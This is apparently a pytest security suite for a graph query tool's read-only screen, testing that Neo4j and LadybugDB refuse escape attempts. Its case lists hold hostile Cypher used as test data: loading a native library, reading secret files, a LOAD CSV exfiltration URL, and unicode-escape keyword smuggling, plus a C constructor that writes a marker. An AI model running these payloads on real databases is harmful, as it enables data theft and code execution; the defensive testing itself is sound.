"""Read-only cannot be escaped, on both engines (issue 13, items 1 and 5; review F1-F6, F24).

Every case of the review's read-only section runs against a real LadybugDB file and a real
Neo4j server, through the backend (``query`` without ``write``) and, for the review's own
reproduction commands, through the ``rnkg`` command. Each refused case asserts: the one-line
refusal; no marker file written by the case or by the constructor of a real shared library
(built with gcc); no request seen by a local HTTP listener; no open of a secret file (its access
time); and the store unchanged (every node and relationship with its properties).

The case lists are data (REFUSED_CASES, ALLOWED_CASES) so SECURITY.md can count them.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import threading
import urllib.request
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path

import pytest

from rnkg.errors import QueryError
from rnkg.graph.readonly import (
    EMBEDDED_PROFILE_REFUSAL,
    PARSE_REFUSAL,
    READ_ONLY_REFUSAL,
    check_read_only,
)
from rnkg.graph.values import to_jsonable
from rnkg.queries import load_saved_queries
from tests.fixtures.environment import IN_CI, REPO
from tests.fixtures.neo4j_server import neo4j_or_skip, neo4j_settings, wipe_neo4j

# Placeholders: {so} a shared library whose constructor writes a marker, {out} a folder where
# nothing may appear, {url} a local HTTP listener, {secret} a file nobody may read.
REFUSED_CASES: dict[str, str] = {
    # F1: native code through PROFILE LOAD EXTENSION
    "F1 profile load extension": "PROFILE LOAD EXTENSION '{so}'",
    "F1 lower case": "profile load extension '{so}'",
    "F1 after a read": "RETURN 1; PROFILE LOAD EXTENSION '{so}'",
    "F1 comment between": "PROFILE /* x */ LOAD // y\n EXTENSION '{so}'",
    "F1 unicode whitespace": "PROFILE\u00a0LOAD\u3000EXTENSION\u2003'{so}'",
    "F1 bare": "LOAD EXTENSION '{so}'",
    "F1 explain": "EXPLAIN LOAD EXTENSION '{so}'",
    # F2: files written, downloads tried
    "F2 profile copy to": "PROFILE COPY (MATCH (n:Person) RETURN n.name) TO '{out}/c.csv'",
    "F2 lower copy parquet": "profile copy (match (n:Person) return n.id) to '{out}/c.parquet'",
    "F2 copy after a read": "MATCH (n) RETURN count(n); PROFILE COPY (RETURN 1) TO '{out}/c5.csv'",
    "F2 copy to": "COPY (MATCH (p:Person) RETURN p.id) TO '{out}/leak.csv'",
    "F2 profile install": "PROFILE INSTALL json",
    "F2 install": "INSTALL json",
    "F2 uninstall": "UNINSTALL json",
    "F2 profile export": "PROFILE EXPORT DATABASE '{out}/exported'",
    "F2 import": "IMPORT DATABASE '{out}/exported'",
    "F2 attach": "PROFILE ATTACH '{out}/other.lbug' AS o (dbtype lbug)",
    "F2 checkpoint": "CHECKPOINT",
    # F4: LOAD FROM a file after another clause
    "F4 with load from": "WITH 1 AS x LOAD FROM '{secret}' (header=false) RETURN * LIMIT 2",
    "F4 unwind load from": "UNWIND [1] AS i LOAD FROM '{secret}' (header=false) RETURN *",
    "F4 match with load from": "MATCH (n:Person) WITH n LIMIT 1 LOAD FROM '{secret}' RETURN *",
    "F4 load from": "LOAD FROM '{secret}' (header=false) RETURN *",
    "F4 lower load with headers": "match (n) with n limit 1 load with headers (a STRING) "
                                  "from '{secret}' return *",
    "F4 in exists": "MATCH (n) WHERE EXISTS { LOAD FROM '{secret}' RETURN 1 } RETURN n",
    # F5: administration from a read session
    "F5 terminate": "TERMINATE TRANSACTIONS 'neo4j-transaction-1'",
    "F5 show transactions": "SHOW TRANSACTIONS YIELD transactionId, currentQuery",
    "F5 lower show": "show transactions",
    "F5 clear caches": "CALL db.clearQueryCaches()",
    "F5 after a read": "MATCH (n) RETURN n LIMIT 1; TERMINATE TRANSACTIONS 'x'",
    "F5 dbms procedure": "CALL dbms.components()",
    "F5 other db procedure": "CALL db.createLabel('Evil')",
    "F5 backtick procedure": "CALL `db`.`clearQueryCaches`()",
    "F5 procedure without parentheses": "CALL db.clearQueryCaches",
    "F5 namespaced function": "RETURN apoc.text.join(['a'], ',')",
    "F5 start database": "START DATABASE neo4j",
    "F5 stop database": "STOP DATABASE neo4j",
    "F5 grant": "GRANT ROLE admin TO neo4j",
    # F6: the server fetching URLs
    "F6 load csv http": "LOAD CSV FROM '{url}/neo4j-ssrf' AS r RETURN r",
    "F6 exfiltration": "MATCH (n:Person) WITH n LIMIT 1 LOAD CSV FROM '{url}/exfil?name=' "
                       "+ n.name AS r RETURN r",
    "F6 lower with headers": "with 1 as x load csv with headers from '{url}/h' as r return r",
    "F6 file url": "LOAD CSV FROM 'file:///{secret}' AS r RETURN r",
    "F6 in call subquery": "CALL { LOAD CSV FROM '{url}/sub' AS r RETURN r } RETURN r",
    "F6 nested call": "CALL { CALL { WITH 1 AS x LOAD CSV FROM '{url}/n' AS r RETURN r } "
                      "RETURN r } RETURN r",
    # F24: session settings and other side effects
    "F24 threads": "CALL threads=1",
    "F24 checkpoint threshold": "CALL checkpoint_threshold=0",
    "F24 timeout": "call timeout = 1",
    "F24 table function": "CALL file_info('{secret}') RETURN *",
    "F24 project graph": "CALL project_graph('g', ['Person'], []) RETURN *",
    "F24 nextval": "RETURN nextval('s')",
    # R1 (found here): Neo4j decodes \uXXXX before lexing, even outside strings
    "R1 escaped keyword": "MATCH (n) WITH n LIMIT 1 \\u004cOAD CSV FROM '{url}/esc' AS r RETURN r",
    "R1 escaped quote ends a string": "MATCH (n) RETURN 'x\\u0027 AS x LOAD CSV FROM "
                                      "\\u0027{url}/q\\u0027 AS r RETURN r //'",
    "R1 escaped terminate": "RETURN 1 AS x \\u000a TERMINATE TRANSACTIONS 'x'",
    "R1 escaped call": "RETURN 1 AS x UNION \\u0043ALL db.clearQueryCaches() YIELD x RETURN x",
    "R1 escaped newline ends a comment": "MATCH (n) RETURN n // \\u000a SET n.note = 'x'",
    # LadybugDB's file-reading table functions
    "F4 read_csv table function": "CALL read_csv_serial('{secret}') RETURN *",
    "F4 read_parquet table function": "CALL READ_PARQUET('{secret}') RETURN *",
    # writes in every position
    "write create": "CREATE (:Person {id: 'person:escape', name: 'x'})",
    "write with create": "WITH 1 AS x CREATE (:Person {id: 'person:escape', name: 'x'})",
    "write unwind merge": "UNWIND [1] AS i MERGE (:Person {id: 'person:escape', name: 'x'})",
    "write set": "MATCH (n:Person) SET n.note = 'sneaky'",
    "write set after comment": "MATCH (n:Person) /* RETURN */ SET n.note = 'sneaky'",
    "write lower detach delete": "match (n) detach delete n",
    "write remove": "MATCH (n:Person) REMOVE n.note",
    "write foreach": "MATCH (n:Person) FOREACH (x IN [1] | SET n.note = 'x')",
    "write optional match create": "OPTIONAL MATCH (n) CREATE (:Person {id: 'person:escape'})",
    "write union create": "RETURN 1 AS x UNION ALL CREATE (:Person {id: 'person:escape'}) "
                          "RETURN 2 AS x",
    "write in call": "CALL { CREATE (:Person {id: 'person:escape', name: 'x'}) } RETURN 1",
    "write in transactions": "CALL { MATCH (n) RETURN n } IN TRANSACTIONS RETURN 1",
    "write scoped call": "MATCH (n) CALL (n) { SET n.note = 'x' } RETURN n",
    "write profile": "PROFILE MATCH (n:Person) SET n.note = 'sneaky'",
    "write explain": "EXPLAIN CREATE (:Person {id: 'person:escape'})",
    "write glued to a number": "RETURN 1CREATE (:Person {id: 'person:escape'})",
    "write insert": "INSERT (:Person {id: 'person:escape', name: 'x'})",
    "write commit": "COMMIT; CREATE (:Person {id: 'person:escape', name: 'x'})",
    "write rollback": "ROLLBACK; CREATE (:Person {id: 'person:escape', name: 'x'})",
    "write begin": "BEGIN TRANSACTION; CREATE (:Person {id: 'person:escape'}); COMMIT",
    "write after a read": "MATCH (n) RETURN n; CREATE (:Person {id: 'person:escape', name: 'x'})",
    "write string escape": "RETURN 'x\\'; CREATE (:Person {id: 'person:escape'}); //' AS s; "
                           "CREATE (:Person {id: 'person:escape'})",
    "write cypher options": "CYPHER runtime=slotted CREATE (:Person {id: 'person:escape'})",
    "write use": "USE neo4j CREATE (:Person {id: 'person:escape'})",
    "write ddl": "DROP TABLE Person",
    "write alter": "ALTER TABLE Person ADD evil STRING",
    "write comment on": "COMMENT ON TABLE Person IS 'x'",
    "write em space": "MATCH (n)\u2003SET n.note = 'x'",
    "write zero-width": "MATCH (n)\u200bSET n.note = 'x'",
    "write tab newline": "MATCH (n)\t\r\nSET\tn.note = 'x'",
}
# Texts that are not Cypher at all: refused with the parse message, not "this query writes".
UNPARSEABLE_CASES: dict[str, str] = {
    "unclosed string": "RETURN 'x",
    "unclosed double string": 'RETURN "x\\"',
    "unclosed comment": "MATCH (n) /* RETURN n",
    "unclosed name": "MATCH (`n) RETURN 1",
    "escaped quote hides the end": "RETURN 'a\\' CREATE (:Person {id: 'person:escape'})",
}
_SAVED = load_saved_queries()
# Legitimate reads that must pass the screen (and run) on the engine they are written for.
ALLOWED_CASES: dict[str, tuple[str, dict, tuple[str, ...]]] = {
    # each with its example parameters in their declared types (a date param takes a date)
    **{f"saved {name} ({engine})": (q.text_for(engine), q.bind(q.example_params()),
                                    (engine,))
       for name, q in _SAVED.items() for engine in ("embedded", "neo4j")},
    "README treaty signatories": (
        "MATCH (p:Person)-[:SIGNED]->(a:Agreement) WHERE a.id = 'agreement:ru-kp-treaty-2024' "
        "RETURN p.name, a.name ORDER BY p.name", {}, ("embedded", "neo4j")),
    "README owner": ("MATCH (o:Organization)-[r:OWNS]->(v:Vessel) WHERE v.id = $id "
                     "RETURN o.id AS owner, r LIMIT 1", {"id": "vessel:maia-1"},
                     ("embedded", "neo4j")),
    "keywords as property names": ("MATCH (n:Person) RETURN n.set, n.load, n.create, n.count "
                                   "LIMIT 1", {}, ("neo4j",)),
    "keywords as map keys": ("RETURN {load: 1, set: 2, `create`: 3, delete: 4} AS m", {},
                             ("embedded", "neo4j")),
    "keywords in strings and comments": (
        "MATCH (n:Person) // CREATE (x)\nWHERE n.name <> 'DETACH DELETE n; LOAD CSV' "
        "/* SET */ RETURN count(n) AS c", {}, ("embedded", "neo4j")),
    "parameter named like a keyword": ("MATCH (n:Person) WHERE n.id = $set RETURN n",
                                       {"set": "person:vladimir-putin"}, ("embedded", "neo4j")),
    "start and end as variables": ("MATCH (start:Person)-[r]->(stop) RETURN start.id, stop.id "
                                   "LIMIT 3", {}, ("embedded", "neo4j")),
    "optional match, with, unwind, order": (
        "UNWIND [1, 2] AS i WITH i OPTIONAL MATCH (n:Person) WHERE n.id = 'person:none' "
        "RETURN i, n ORDER BY i DESC SKIP 0 LIMIT 2", {}, ("embedded", "neo4j")),
    "union": ("RETURN 1 AS x UNION ALL RETURN 2 AS x UNION ALL RETURN 3 AS x", {},
              ("embedded", "neo4j")),
    "exists and count subqueries": (
        "MATCH (n:Person) WHERE EXISTS { MATCH (n)-[:SIGNED]->() } "
        "RETURN n.id, COUNT { MATCH (n)-[:SIGNED]->() } AS c ORDER BY n.id",
        {}, ("embedded", "neo4j")),
    "case": ("MATCH (n:Person) RETURN CASE WHEN n.id = 'x' THEN 1 ELSE 0 END AS c LIMIT 1",
             {}, ("embedded", "neo4j")),
    "explain": ("EXPLAIN MATCH (n:Person) RETURN n", {}, ("embedded", "neo4j")),
    "profile of a read": ("PROFILE MATCH (n:Person) RETURN n.id", {}, ("neo4j",)),
    "call subquery": ("CALL { MATCH (n:Person) RETURN n.id AS id } RETURN id", {}, ("neo4j",)),
    "shortest path (neo4j)": (
        "MATCH (a:Person {id: 'person:vladimir-putin'}), (b:Agreement) "
        "MATCH p = shortestPath((a)-[*..4]-(b)) RETURN length(p) LIMIT 1", {}, ("neo4j",)),
    "shortest path (embedded)": (
        "MATCH p = (a:Person {id: 'person:vladimir-putin'})-[* SHORTEST 1..4]-(b:Agreement) "
        "RETURN length(p) LIMIT 1", {}, ("embedded",)),
    "table functions rnkg reads": ("CALL show_tables() RETURN *", {}, ("embedded",)),
    "table info": ("CALL table_info('Person') RETURN *", {}, ("embedded",)),
    "several reads": ("MATCH (n) RETURN count(n); RETURN 1 AS one;", {}, ("embedded",)),
    "an escaped backslash before u": ("RETURN '\\\\u0041' AS x", {}, ("embedded", "neo4j")),
    "an escaped character in a string": ("RETURN 'caf\\u00e9' AS x", {}, ("embedded", "neo4j")),
    "lower case and unicode space": ("match\u00a0(n:Person)\u3000return\u2003count(n)", {},
                                     ("embedded", "neo4j")),
}


def case_counts() -> dict[str, int]:
    """How many cases each list holds (for SECURITY.md)."""
    return {"refused": len(REFUSED_CASES), "unparseable": len(UNPARSEABLE_CASES),
            "allowed": len(ALLOWED_CASES), "rnkg's own reads": len(RNKG_OWN_READS),
            "engines": 2}


# ------------------------------------------------------------------ the traps


class Listener:
    """A local HTTP server in a thread that records every request path."""

    def __init__(self) -> None:
        seen: list[str] = []
        self.seen = seen

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                seen.append(self.path)
                self.send_response(200)
                self.end_headers()
                self.wfile.write(b"a,b\n1,2\n")

            def log_message(self, *args):
                pass

        self.server = HTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


class Trap:
    """The files, library, secret file and listener a case must not touch, and how to check them."""

    def __init__(self, root: Path) -> None:
        self.root = root
        self.out = root / "out"
        self.out.mkdir()
        self.marker = root / "PWNED_EXT"
        self.so = root / "evil.so"
        source = root / "evil.c"
        source.write_text(
            "#include <stdio.h>\n"
            "__attribute__((constructor)) static void pwn(void) {\n"
            f'    FILE *f = fopen("{self.marker}", "w"); if (f) {{ fputs("ran", f); fclose(f); }}\n'
            "}\n")
        gcc = shutil.which("gcc")
        if gcc is None:
            message = "no gcc: the F1 library cannot be built"
            if IN_CI:
                pytest.fail(message)
            pytest.skip(message)
        subprocess.run([gcc, "-shared", "-fPIC", "-o", str(self.so), str(source)], check=True)
        self.secret = root / "secret.csv"
        self.secret.write_text("SECRET-e5e242,x\n")
        self.rearm()
        self.listener = Listener()

    def fill(self, template: str) -> str:
        return (template.replace("{so}", str(self.so)).replace("{out}", str(self.out))
                .replace("{url}", self.listener.url).replace("{secret}", str(self.secret)))

    def rearm(self) -> None:
        """Set the secret's access time before its modification time: a read (relatime or
        strictatime) then moves it."""
        mtime = self.secret.stat().st_mtime
        os.utime(self.secret, (mtime - 1000, mtime))
        self.atime = self.secret.stat().st_atime

    def secret_read(self) -> bool:
        """Whether the secret file was read since :meth:`rearm`."""
        return self.secret.stat().st_atime != self.atime

    def untouched(self) -> None:
        assert not self.marker.exists(), "the library's constructor ran"
        assert list(self.out.iterdir()) == [], "a file was written"
        assert self.listener.seen == [], f"the listener saw requests {self.listener.seen}"
        assert not self.secret_read(), "the secret file was read"

    def close(self) -> None:
        self.listener.close()


@pytest.fixture(scope="module")
def trap(tmp_path_factory):
    t = Trap(tmp_path_factory.mktemp("trap"))
    yield t
    t.close()


@pytest.fixture(scope="module", params=["embedded", pytest.param("neo4j", marks=pytest.mark.neo4j)])
def store(request, tmp_path_factory, mini):
    """The mini facts in a store on each engine, loaded once for the module."""
    if request.param == "embedded":
        from rnkg.graph.ladybug import LadybugBackend, release

        path = tmp_path_factory.mktemp("ro") / "ro.lbug"
        backend = LadybugBackend(path)
        backend.load(mini, reset=True)
        yield backend
        backend.close()
        release(path)
    else:
        backend = neo4j_or_skip()
        wipe_neo4j(backend)
        backend.load(mini, reset=True)
        yield backend
        backend.close()


def dump(backend) -> str:
    """Every node and relationship with its properties, as canonical JSON."""
    nodes = backend.query("MATCH (n) RETURN n ORDER BY n.id").records()
    rels = backend.query("MATCH (a)-[r]->(b) RETURN a.id, r, b.id").records()
    rels = sorted(json.dumps(to_jsonable(r), sort_keys=True, default=str) for r in rels)
    return json.dumps([to_jsonable(nodes), rels], sort_keys=True, default=str)


@pytest.fixture(scope="module")
def before(store):
    return dump(store)


def _one_line(error: QueryError) -> str:
    message = str(error)
    assert "\n" not in message and message
    return message


# ------------------------------------------------------------------ the tests


@pytest.mark.parametrize("name", list(REFUSED_CASES))
def test_refused_on_the_engine(store, trap, before, name):
    with pytest.raises(QueryError) as caught:
        store.query(trap.fill(REFUSED_CASES[name]))
    assert _one_line(caught.value) == READ_ONLY_REFUSAL
    trap.untouched()
    assert dump(store) == before


@pytest.mark.parametrize("name", list(UNPARSEABLE_CASES))
def test_unparseable_refused_with_its_own_message(store, trap, before, name):
    with pytest.raises(QueryError) as caught:
        store.query(UNPARSEABLE_CASES[name])
    assert _one_line(caught.value).startswith(PARSE_REFUSAL + ": unclosed ")
    trap.untouched()
    assert dump(store) == before


_ALLOWED_RUNS = [
    pytest.param(engine, name, id=f"{engine}-{name}",
                 marks=[pytest.mark.neo4j] if engine == "neo4j" else [])
    for name, (_, _, engines) in ALLOWED_CASES.items() for engine in engines
]


@pytest.mark.parametrize(("store", "name"), _ALLOWED_RUNS, indirect=["store"])
def test_legitimate_reads_pass_and_run(store, before, name):
    text, params, _ = ALLOWED_CASES[name]
    check_read_only(text, store.name)
    store.query(text, params)
    assert dump(store) == before


# rnkg's own reads (show, path, export), run through the real functions and so the screen.
RNKG_OWN_READS = ["path", "path via SIGNED", "all shortest paths", "resolve by id",
                  "resolve by name", "resolve by substring", "neighbourhood", "networkx export"]


def test_rnkg_own_reads_pass_the_screen(store, before):
    from rnkg.graph.lookup import neighbourhood, resolve_entity
    from rnkg.graph.nx import to_networkx
    from rnkg.graph.paths import path_query

    done = []
    for name, via, all_shortest in (("path", (), False), ("path via SIGNED", ("SIGNED",), False),
                                    ("all shortest paths", (), True)):
        cypher = path_query(store.schema, store.dialect, "person:vladimir-putin",
                            "agreement:treaty-2024", 3, via, all_shortest)
        rows = store.query(cypher, {"from_id": "person:vladimir-putin",
                                    "to_id": "agreement:treaty-2024"}).rows
        assert rows, name
        done.append(name)
    for name, text in (("resolve by id", "person:vladimir-putin"),
                       ("resolve by name", "Vladimir Putin"), ("resolve by substring", "putin")):
        assert resolve_entity(store, text).id == "person:vladimir-putin"
        done.append(name)
    assert neighbourhood(store, "vessel:maia-1")
    done.append("neighbourhood")
    assert to_networkx(store).number_of_nodes() > 0
    done.append("networkx export")
    assert done == RNKG_OWN_READS
    assert dump(store) == before


def test_the_case_lists_are_counted_and_distinct():
    counts = case_counts()
    print(f"read-only cases: {counts}")
    texts = [*REFUSED_CASES.values(), *UNPARSEABLE_CASES.values()]
    assert len(set(texts)) == len(texts) == counts["refused"] + counts["unparseable"]


def test_the_traps_see_a_real_escape(trap, tmp_path, mini):
    """The checks can fail: the same texts run with --write (no screen) do trip them."""
    from rnkg.graph.ladybug import LadybugBackend, release

    path = tmp_path / "w.lbug"
    backend = LadybugBackend(path)
    try:
        backend.load(mini, reset=True)
        with pytest.raises(QueryError):  # the library loads, then LadybugDB finds no init
            backend.query(trap.fill("LOAD EXTENSION '{so}'"), write=True)
        assert trap.marker.exists()
        backend.query(trap.fill(REFUSED_CASES["F2 copy to"]), write=True)
        assert list(trap.out.iterdir()) == [trap.out / "leak.csv"]
        rows = backend.query(trap.fill(REFUSED_CASES["F4 load from"]), write=True).rows
        assert rows == [["SECRET-e5e242", "x"]] and trap.secret_read()
    finally:
        backend.close()
        release(path)
        trap.marker.unlink(missing_ok=True)
        for f in trap.out.iterdir():
            f.unlink()
        trap.rearm()
    with urllib.request.urlopen(trap.listener.url + "/probe") as answer:
        assert answer.status == 200
    assert trap.listener.seen == ["/probe"]
    trap.listener.seen.clear()
    trap.untouched()


# ------------------------------------------------------------------ the engines' own guards


def test_neo4j_server_refuses_remote_and_file_load_csv(trap):
    """Even a --write query cannot make the server fetch a URL or read a file (neo4j.conf)."""
    backend = neo4j_or_skip()
    try:
        for text, setting in (
                (f"LOAD CSV FROM '{trap.listener.url}/blocked' AS r RETURN r",
                 "internal.dbms.cypher_ip_blocklist"),
                ("LOAD CSV FROM 'file:///password' AS r RETURN r",
                 "dbms.security.allow_csv_import_from_file_urls")):
            with pytest.raises(QueryError, match=setting):
                backend.query(text, write=True)
        assert trap.listener.seen == []
    finally:
        backend.close()


def test_embedded_query_opens_the_store_read_only(tmp_path, mini):
    """`rnkg query` opens the file read-only: a write slipped past the screen is refused."""
    from rnkg.graph.ladybug import LadybugBackend, release

    path = tmp_path / "s.lbug"
    LadybugBackend(path).load(mini, reset=True)
    release(path)
    reader = LadybugBackend(path, read_only=True)
    try:
        with pytest.raises(QueryError, match="read-only"):
            reader._run("CREATE (:Person {id: 'person:escape', name: 'x'})")
    finally:
        reader.close()
        release(path)


def test_profile_is_refused_on_the_embedded_store_only(store, before):
    """Found by the fuzz run: LadybugDB 0.22 segfaults re-running a PROFILE given parameters
    (used or not), so the embedded store refuses PROFILE; Neo4j runs it when its body passes."""
    text = "PROFILE MATCH (n:Person) WHERE n.id <> $p RETURN n.id ORDER BY n.id"
    for _ in range(3):
        if store.name == "embedded":
            with pytest.raises(QueryError) as caught:
                store.query(text, {"p": "x"})
            assert _one_line(caught.value) == EMBEDDED_PROFILE_REFUSAL
        else:
            assert store.query(text, {"p": "x"}).rows
    assert dump(store) == before


# ------------------------------------------------------------------ the review's commands


def _rnkg(*args: str, env: dict | None = None) -> subprocess.CompletedProcess:
    return subprocess.run([str(Path(sys.executable).parent / "rnkg"), *args], capture_output=True,
                          text=True, env={**os.environ, **(env or {})}, cwd=REPO, timeout=120)


REVIEW_COMMANDS = {
    "embedded": ["F1 profile load extension", "F2 profile copy to", "F4 unwind load from",
                 "F24 threads"],
    "neo4j": ["F5 terminate", "F5 clear caches", "F6 exfiltration"],
}


@pytest.mark.parametrize("backend", ["embedded", pytest.param("neo4j", marks=pytest.mark.neo4j)])
def test_review_commands_exit_1_with_one_line(backend, trap, tmp_path, mini):
    if backend == "embedded":
        from rnkg.graph.ladybug import LadybugBackend, release

        db = tmp_path / "s.lbug"
        LadybugBackend(db).load(mini, reset=True)
        release(db)
        prefix, env = ["--db", str(db)], {}
    else:
        settings = neo4j_settings()
        neo4j_or_skip().close()
        prefix = ["--backend", "neo4j"]
        env = {"NEO4J_URI": settings.neo4j_uri, "NEO4J_PASSWORD": settings.neo4j_password}
    for name in REVIEW_COMMANDS[backend]:
        run = _rnkg(*prefix, "query", trap.fill(REFUSED_CASES[name]), env=env)
        assert (run.returncode, run.stdout) == (1, ""), (name, run)
        assert run.stderr == f"rnkg: {READ_ONLY_REFUSAL}\n", (name, run.stderr)
        trap.untouched()
    run = _rnkg(*prefix, "query", UNPARSEABLE_CASES["unclosed string"], env=env)
    assert (run.returncode, run.stdout) == (1, "")
    assert run.stderr == (f"rnkg: {PARSE_REFUSAL}: unclosed string starting at line 1, "
                          "column 8\n")



@pytest.mark.parametrize("store", ["embedded"], indirect=True)
def test_rnkg_query_opens_the_embedded_store_read_only(store):
    """`rnkg query` beside this process's read-write handle: only a read-only open succeeds
    (a second read-write open is refused with "in use by another process")."""
    run = _rnkg("--db", str(store.path), "query", "--format", "json",
                "MATCH (n:Person) RETURN count(n) AS c")
    assert run.returncode == 0, run.stderr
    assert json.loads(run.stdout)[0]["c"] > 0
    run = _rnkg("--db", str(store.path), "query", "--write", "RETURN 1")
    assert run.returncode == 1 and "in use by another process" in run.stderr


# ------------------------------------------------------------------ fuzzing (issue 13, item 5)

# Fragments a fuzzed text is built from: read and write keywords, quotes, comments,
# semicolons, PROFILE and the review's payloads.
FUZZ_FRAGMENTS = [
    "MATCH", "OPTIONAL MATCH", "WHERE", "WITH", "UNWIND", "RETURN", "ORDER BY", "SKIP", "LIMIT",
    "UNION", "UNION ALL", "CALL", "YIELD", "EXISTS", "COUNT", "CASE", "WHEN", "THEN", "END",
    "AS", "AND", "OR", "NOT", "IN", "DISTINCT", "PROFILE", "EXPLAIN", "CREATE", "MERGE", "SET",
    "DELETE", "DETACH", "REMOVE", "FOREACH", "LOAD", "CSV", "FROM", "COPY", "TO", "INSTALL",
    "ATTACH", "EXPORT", "IMPORT", "DATABASE", "EXTENSION", "TERMINATE", "SHOW", "TRANSACTIONS",
    "BEGIN", "COMMIT", "ROLLBACK", "USE", "CHECKPOINT", "(n)", "(n:Person)", "(m)", "-[r]->",
    "n", "n.id", "n.set", "{load: 1}", "[1, 2]", "*", "1", "x", "i", "=", "<>", "+", ",", ".",
    ":", "|", "{", "}", "(", ")", "[", "]", ";", "$p", "'s'", '"s"', "'a\\'b'", "'", '"', "`",
    "`set`", "// c\n", "/* c */", "/*", "*/", "\u00a0", "\u3000", "\u2028", "\t", "\n",
    "threads=1", "db.clearQueryCaches()", "dbms.components()", "show_tables()",
    "LOAD EXTENSION '{so}'", "COPY (RETURN 1) TO '{out}/f.csv'", "LOAD FROM '{secret}'",
    "LOAD CSV FROM '{url}/f' AS r", "WITH 1 AS x", "RETURN 1", "MATCH (n) RETURN n",
]


FUZZ_READ_STARTS = ["MATCH (n:Person)", "MATCH (n)", "OPTIONAL MATCH (n:Person)",
                    "UNWIND [1, 2] AS i MATCH (n:Person)", "WITH 1 AS x MATCH (n:Person)",
                    "PROFILE MATCH (n:Person)", "EXPLAIN MATCH (n)"]
FUZZ_READ_PARTS = ["WITH n", "WITH n WHERE n.id <> $p", "WITH n WHERE n.name CONTAINS 'a'",
                   "WITH n ORDER BY n.id LIMIT 3", "// a comment\n", "/* SET n.x = 1 */",
                   "WITH n WHERE n.id <> 'CREATE (x); LOAD CSV'",
                   "WITH n WHERE EXISTS { MATCH (n)-->() }"]
FUZZ_READ_ENDS = ["RETURN n.id ORDER BY n.id", "RETURN count(n) AS c", "RETURN {set: n.id} AS m",
                  "RETURN n LIMIT 2", "RETURN n.id AS `load` LIMIT 1"]


def _splice(parts: tuple) -> str:
    start, middle, hostile, where, sep = parts
    end = FUZZ_READ_ENDS[where % len(FUZZ_READ_ENDS)]
    words = [start, *middle, end]
    words.insert(where % (len(words) + 1), hostile)
    return (sep or " ").join(w for w in words if w)


def _fuzz_examples(engine: str) -> int:
    """200 (embedded) and 40 (Neo4j) in the suite; RNKG_FUZZ_EXAMPLES (`make fuzz`) sets the
    embedded count, and Neo4j, about five times slower per example, runs a fifth of it."""
    wanted = int(os.environ.get("RNKG_FUZZ_EXAMPLES", 200))
    return wanted if engine == "embedded" else max(40, wanted // 5)


def test_fuzzed_query_texts_succeed_or_fail_cleanly(store, trap, before, capsys):
    """Random texts from Cypher fragments: success with nothing touched, or one clean line."""
    from hypothesis import HealthCheck, given, settings
    from hypothesis import strategies as st

    def cased(pool):
        return st.sampled_from(pool).flatmap(lambda f: st.sampled_from([f, f.lower(), f.upper()]))

    separator = st.sampled_from([" ", " ", "", "\n", "\u2003", " /* */ "])
    soup = st.lists(st.tuples(cased(FUZZ_FRAGMENTS), separator), min_size=1, max_size=14).map(
        lambda parts: "".join(f + s for f, s in parts))
    # Mostly reads that run, with at most one hostile fragment spliced in somewhere.
    reads = st.tuples(st.sampled_from(FUZZ_READ_STARTS),
                      st.lists(st.sampled_from(FUZZ_READ_PARTS), max_size=4),
                      st.sampled_from([""] * len(FUZZ_FRAGMENTS) + FUZZ_FRAGMENTS),
                      st.integers(0, 5), separator).map(_splice).flatmap(
        lambda t: st.sampled_from([t, t, t.lower()]))
    texts = st.one_of(reads, reads, soup)
    outcomes = {"ran": 0, "refused": 0, "profile refused": 0, "parse": 0, "engine error": 0}

    @settings(max_examples=_fuzz_examples(store.name), deadline=None, database=None,
              suppress_health_check=list(HealthCheck))
    @given(texts)
    def run(text):
        text = trap.fill(text)
        if trace := os.environ.get("RNKG_FUZZ_TRACE"):  # the last line names a crash's text
            with open(trace, "a", encoding="utf-8") as log:
                log.write(json.dumps(text) + "\n")
        try:
            store.query(text, {"p": "person:x"})
            outcomes["ran"] += 1
        except QueryError as exc:
            message = _one_line(exc)
            kind = ("refused" if message == READ_ONLY_REFUSAL else
                    "profile refused" if message == EMBEDDED_PROFILE_REFUSAL else
                    "parse" if message.startswith(PARSE_REFUSAL) else "engine error")
            outcomes[kind] += 1
            if kind == "engine error" and os.environ.get("RNKG_FUZZ_SHOW"):
                print(repr(text), "->", message)
        trap.untouched()

    run()
    assert dump(store) == before
    total = sum(outcomes.values())
    with capsys.disabled():
        print(f"\nfuzzed read-only texts on {store.name}: {total} examples {outcomes}")
    assert total >= _fuzz_examples(store.name) // 2  # hypothesis may stop early on duplicates
